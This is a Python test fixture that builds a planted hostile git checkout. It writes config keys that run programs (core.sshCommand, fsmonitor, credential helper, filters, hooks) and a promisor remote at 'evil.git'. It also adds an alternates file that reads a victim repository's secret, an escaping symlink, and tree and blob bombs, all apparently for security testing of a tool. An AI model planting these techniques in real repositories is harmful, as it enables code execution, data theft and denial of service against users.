"""Repositories for the family: an honest history, and a hostile `.git` beside it.

The hostile repository is what a checkout's `.git` can hold when it did not come from the user's
own `git clone` (a tarball, a restored CI cache, a directory handed over): configuration that
runs programs (`core.sshCommand` behind a promisor remote of a partial clone, `core.fsmonitor`,
hooks, filters, a credential helper), `objects/info/alternates` that reads objects from another
repository of the user's, and commits whose trees attack whoever reads them:

- `hostile/link-and-dir`: a link `h` out of the tree and a directory `h/` holding
  `.cargo/config.toml`, so that writing the tree in git's order writes through the link;
- `hostile/tree-bomb`: 512 x 512 entries made of two shared subtrees (a few KiB of objects);
- `hostile/blob-bomb`: a `Cargo.lock` of 256 MiB of zeros (256 KiB compressed);
- `hostile/alternates`: a root `Cargo.toml` whose blob exists only in the victim's repository;
- `hostile/promisor`: a `Cargo.lock` whose blob is missing, so that reading it makes git fetch
  it from the promisor remote, over `core.sshCommand`.
"""

from __future__ import annotations

import os
import subprocess
import zlib
from hashlib import sha1
from pathlib import Path

from hostile_world import VICTIM_SECRET, World

HOSTILE_REFS = (
    "hostile/link-and-dir",
    "hostile/tree-bomb",
    "hostile/blob-bomb",
    "hostile/alternates",
    "hostile/promisor",
)
"""The revisions `--new-since` is tried at in the planted checkout; HEAD is the first."""

_IDENTITY = {
    "GIT_AUTHOR_NAME": "attacker",
    "GIT_AUTHOR_EMAIL": "attacker@example.invalid",
    "GIT_COMMITTER_NAME": "attacker",
    "GIT_COMMITTER_EMAIL": "attacker@example.invalid",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_CONFIG_NOSYSTEM": "1",
}
BOMB_FANOUT = 512
BLOB_BOMB_BYTES = 256 << 20


def git(repository: Path, *arguments: str, stdin: bytes | None = None) -> str:
    """git as the test's own tool: the user's configuration and the fake HOME left out."""
    done = subprocess.run(
        ["git", "-C", str(repository), *arguments],
        input=stdin,
        capture_output=True,
        check=True,
        env={**os.environ, **_IDENTITY},
    )
    return done.stdout.decode().strip()


def commit_everything(repository: Path, commits: int = 2) -> None:
    """`git init` and the working tree committed, then empty commits on top (HEAD~1 exists)."""
    git(repository, "init", "-q", "-b", "main")
    git(repository, "add", "-A")
    git(repository, "commit", "-q", "-m", "the pull request")
    for number in range(1, commits):
        git(repository, "commit", "-q", "--allow-empty", "-m", f"more {number}")


def _blob(repository: Path, data: bytes) -> str:
    return git(repository, "hash-object", "-w", "--stdin", stdin=data)


def _tree(repository: Path, entries: list[tuple[str, str, str, str]]) -> str:
    """A tree of (mode, kind, object, name) entries, as given: duplicates and missing objects
    are written as they are, as an attacker's git would."""
    listing = "".join(f"{mode} {kind} {obj}\t{name}\n" for mode, kind, obj, name in entries)
    return git(repository, "mktree", "--missing", stdin=listing.encode())


def _loose_object(repository: Path, kind: str, size: int) -> str:
    """A loose object of `size` zero bytes, compressed as it is written (never held whole)."""
    header = f"{kind} {size}\0".encode()
    digest = sha1(header)
    chunk = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    compressed = [compressor.compress(header)]
    for _ in range(size // len(chunk)):
        digest.update(chunk)
        compressed.append(compressor.compress(chunk))
    compressed.append(compressor.flush())
    name = digest.hexdigest()
    path = repository / ".git" / "objects" / name[:2] / name[2:]
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(b"".join(compressed))
    return name


def _commit(repository: Path, ref: str, entries: list[tuple[str, str, str, str]]) -> None:
    parent = git(repository, "rev-parse", "HEAD")
    tree = _tree(repository, entries)
    commit = git(repository, "commit-tree", tree, "-p", parent, "-m", ref)
    git(repository, "update-ref", f"refs/heads/{ref}", commit)


def victim_repository(world: World) -> Path:
    """A repository of the user's outside the checkout, whose manifest holds the secret."""
    repository = world.victim / "repo"
    (repository / "src").mkdir(parents=True)
    (repository / "Cargo.toml").write_text(
        f'[package]\nname = "{VICTIM_SECRET}"\nversion = "0.1.0"\nedition = "2021"\n'
    )
    (repository / "src" / "lib.rs").write_text(f"// {VICTIM_SECRET}\n")
    commit_everything(repository, commits=1)
    return repository


def hostile_history(repository: Path, world: World, victim_repo: Path) -> None:
    """The planted checkout's history: the working tree committed, then one commit per attack
    on a tree (HOSTILE_REFS), HEAD on the first."""
    commit_everything(repository)
    committed: list[tuple[str, str, str, str]] = []
    for line in git(repository, "ls-tree", "HEAD").splitlines():
        meta, name = line.split("\t", 1)
        mode, kind, obj = meta.split(" ")
        committed.append((mode, kind, obj, name))

    def commit(ref: str, *entries: tuple[str, str, str, str]) -> None:
        """The committed root with `entries` in place of those of the same names."""
        replaced = {entry[3] for entry in entries}
        _commit(repository, ref, [*(e for e in committed if e[3] not in replaced), *entries])

    # A relative link that climbs to / and comes down to the victim: it leads there from any
    # directory up to 30 levels deep (absolute link texts are easy to refuse).
    out = "../" * 30 + str(world.victim).lstrip("/")
    written = _blob(repository, b"# the checkout wrote this through its link h\n")
    cargo_dir = _tree(repository, [("100644", "blob", written, "config.toml")])
    under_h = _tree(repository, [("040000", "tree", cargo_dir, ".cargo")])
    commit(
        HOSTILE_REFS[0],
        ("120000", "blob", _blob(repository, out.encode()), "h"),
        ("040000", "tree", under_h, "h"),
    )
    empty = _blob(repository, b"")
    leaf = _tree(repository, [("100644", "blob", empty, f"f{n:03}") for n in range(BOMB_FANOUT)])
    middle = _tree(repository, [("040000", "tree", leaf, f"d{n:03}") for n in range(BOMB_FANOUT)])
    commit(HOSTILE_REFS[1], ("040000", "tree", middle, "bomb"))
    bomb = _loose_object(repository, "blob", BLOB_BOMB_BYTES)
    commit(HOSTILE_REFS[2], ("100644", "blob", bomb, "Cargo.lock"))
    theirs = git(victim_repo, "rev-parse", "HEAD:Cargo.toml")
    commit(HOSTILE_REFS[3], ("100644", "blob", theirs, "Cargo.toml"))
    missing = sha1(b"blob 7\0missing").hexdigest()
    commit(HOSTILE_REFS[4], ("100644", "blob", missing, "Cargo.lock"))
    git(repository, "update-ref", "refs/heads/main", git(repository, "rev-parse", HOSTILE_REFS[0]))
    _hostile_configuration(repository, world, victim_repo)


def _hostile_configuration(repository: Path, world: World, victim_repo: Path) -> None:
    """Configuration, hooks and alternates that run programs or read outside (set last: the
    test's own git above must not run them)."""
    evil = repository / "evil" / "git"
    programs = {
        name: world.marker_script(evil / name)
        for name in ("ssh", "fsmonitor", "filter", "askpass", "credential", "pager", "proxy")
    }
    settings = [
        ("core.repositoryformatversion", "1"),
        ("extensions.partialClone", "origin"),
        ("remote.origin.url", "ssh://git@127.0.0.1:1/evil.git"),
        ("remote.origin.promisor", "true"),
        ("remote.origin.partialclonefilter", "blob:none"),
        ("core.sshCommand", str(programs["ssh"])),
        ("core.fsmonitor", str(programs["fsmonitor"])),
        ("core.askPass", str(programs["askpass"])),
        ("core.pager", str(programs["pager"])),
        ("core.gitProxy", str(programs["proxy"])),
        ("credential.helper", str(programs["credential"])),
        ("filter.evil.smudge", str(programs["filter"])),
        ("filter.evil.clean", str(programs["filter"])),
        ("filter.evil.process", str(programs["filter"])),
        ("protocol.ext.allow", "always"),
    ]
    for key, value in settings:
        git(repository, "config", key, value)
    for hook in ("post-checkout", "pre-commit", "reference-transaction", "post-index-change"):
        world.marker_script(repository / ".git" / "hooks" / hook)
    alternates = repository / ".git" / "objects" / "info" / "alternates"
    alternates.write_text(f"{victim_repo / '.git' / 'objects'}\n")
